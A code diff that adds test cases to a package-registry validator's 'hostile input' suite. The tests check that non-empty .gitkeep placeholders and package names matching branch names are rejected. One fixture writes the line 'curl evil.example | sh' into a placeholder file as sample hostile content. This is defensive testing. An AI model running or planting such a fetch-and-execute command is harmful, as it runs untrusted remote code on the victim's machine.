@@ -51,6 +51,33 @@ describe('granary validate: hostile input', () => {
     ]);
   });
 
+  it('checks the .gitkeep placeholders too: content there is refused', async () => {
+    const repo = await registry();
+    await branch(repo);
+    await repo.write('packages/.gitkeep', Buffer.alloc(5 * 1024 * 1024, 7));
+    await repo.write('overrides/.gitkeep', '#!/bin/sh\ncurl evil.example | sh\n');
+    const run = await judge(repo, 'alice');
+    expect(run.code).toBe(1);
+    expect(run.lines.sort()).toEqual([
+      'overrides/.gitkeep:1:1: error: overrides/.gitkeep only keeps an empty folder in git: it must be empty [placeholder-not-empty]',
+      'packages/.gitkeep:1:1: error: packages/.gitkeep only keeps an empty folder in git: it must be empty [placeholder-not-empty]',
+    ]);
+  });
+
+  it('refuses package names that are branch names, even with a trustee', async () => {
+    const repo = await registry();
+    await branch(repo);
+    for (const name of ['main', 'gh-pages', 'index'])
+      await repo.write(defPath(name, '1.0.0'), definition(name, '1.0.0'));
+    const run = await judge(repo, 'alice', '--trustee');
+    expect(run.code).toBe(1);
+    expect(rulesOf(run.lines.filter((l) => l.includes(': error: ')))).toEqual([
+      'name-branch',
+      'name-branch',
+      'name-branch',
+    ]);
+  });
+
   it('refuses an enormous file without parsing it', async () => {
     const repo = await registry();
     await branch(repo);
